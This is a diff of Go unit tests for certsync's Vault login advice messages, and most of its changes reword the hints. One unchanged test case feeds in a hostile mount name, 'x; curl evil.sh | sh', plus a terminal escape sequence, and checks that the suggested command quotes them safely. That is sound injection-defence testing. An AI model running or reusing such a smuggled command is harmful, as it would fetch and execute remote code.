@@ -26,22 +26,22 @@ func TestAdvice(t *testing.T) {
 		err, hints string
 	}{
 		"somebody else's token": {of("jwt-bob@example.com"), corporate, goodToken, nil, denies,
-			`this token is of "jwt-bob@example.com" (policies: certsync-prod-eu-users, default): log in to Vault as alice@example.com: vault login -method=oidc ` +
-				"(this Vault also has: userpass at corp/; jwt at ci/, for --vault-auth=jwt); or is --owner or --user wrong?"},
+			`this token belongs to "jwt-bob@example.com" (policies: certsync-prod-eu-users, default): log in to Vault as alice@example.com: vault login -method=oidc ` +
+				"(this Vault also has: userpass at corp/; jwt at ci/, for --vault-auth=jwt); or check --owner and --user"},
 		"their own, which has no right": {of("oidc-alice@example.com"), corporate, goodToken, nil, denies,
-			`this token is of "oidc-alice@example.com" (policies: certsync-prod-eu-users, default), which do not allow "read" on ` + path +
-				": is --owner right? If it is, ask whoever runs certsync for the policy that certsync manifests --vault prints"},
+			`this token belongs to "oidc-alice@example.com" (policies: certsync-prod-eu-users, default), which do not allow "read" on ` + path +
+				". Check --owner; if it is right, ask your certsync administrator for the policy that `certsync manifests --vault` prints"},
 		"a token of their name in lower case": {of("userpass-alice@example.com"), corporate, goodToken, nil, "reading secret/certsync/prod-eu/users/Alice@example.com: Vault answered 403 Forbidden: permission denied",
-			`this token is of "userpass-alice@example.com" (policies: certsync-prod-eu-users, default): Vault's userpass and LDAP turn names into lower case, and alice@example.com ` +
-				"does not stand for Alice@example.com in a policy. Ask whoever runs certsync to rename you in the inventory (name: alice@example.com, previously: [Alice@example.com]), or for a policy of your own"},
+			`this token belongs to "userpass-alice@example.com" (policies: certsync-prod-eu-users, default). Vault's userpass and LDAP turn names into lower case, and alice@example.com ` +
+				"does not match Alice@example.com in a policy. Ask your certsync administrator to rename you in the inventory (name: alice@example.com, previously: [Alice@example.com]), or to give you a policy of your own"},
 		"no token": {nil, map[string]string{"corp/": "userpass"}, "", nil, "logging in to Vault at $VAULT: there is no token",
 			"log in to Vault as alice@example.com: vault login -method=userpass -path=corp"},
 		"a method whose name does more in a shell": {nil, map[string]string{"x; curl evil.sh | sh/": "userpass", "a\x1b[2J/": "oidc"}, "", nil, "logging in to Vault at $VAULT: there is no token",
 			`log in to Vault as alice@example.com: vault login -method=userpass '-path=x; curl evil.sh | sh' (this Vault also has: oidc at "a\x1b[2J/")`},
 		"an expired one": {nil, map[string]string{"ci/": "jwt"}, goodToken + "-old", nil, denies + ", invalid token",
-			`the token is unknown, expired or revoked: log in to Vault as alice@example.com, as you always do with "vault login" (this Vault shows: jwt at ci/, for --vault-auth=jwt)`},
+			"the token is unknown, expired or revoked: log in to Vault as alice@example.com with `vault login` (this Vault shows: jwt at ci/, for --vault-auth=jwt)"},
 		"one that may not even look at itself": {nil, nil, goodToken, []string{"auth/token/lookup-self"}, denies,
-			`the token does not allow "read" on ` + path + `: log in to Vault as alice@example.com, as you always do with "vault login"; or is --owner or --user wrong?`},
+			`the token does not allow "read" on ` + path + ": log in to Vault as alice@example.com with `vault login`; or check --owner and --user"},
 	} {
 		t.Run(sentence, func(t *testing.T) {
 			v := newFakeVault(t)
@@ -101,8 +101,8 @@ func TestAdviceAfterLogin(t *testing.T) {
 		deny map[string]bool
 		want string
 	}{
-		"it may look at itself": {map[string]bool{path: true}, `jwt at auth/jwt as role "people" gave a token of "jwt-bob" (policies: default), which do not allow "read" on ` + path},
-		"it may not":            {map[string]bool{path: true, "auth/token/lookup-self": true}, `the token that jwt at auth/jwt as role "people" gave does not allow "read" on ` + path},
+		"it may look at itself": {map[string]bool{path: true}, `the token from jwt at auth/jwt as role "people" belongs to "jwt-bob" (policies: default), which do not allow "read" on ` + path},
+		"it may not":            {map[string]bool{path: true, "auth/token/lookup-self": true}, `the token from jwt at auth/jwt as role "people" does not allow "read" on ` + path},
 	} {
 		t.Run(sentence, func(t *testing.T) {
 			v := newFakeVault(t)
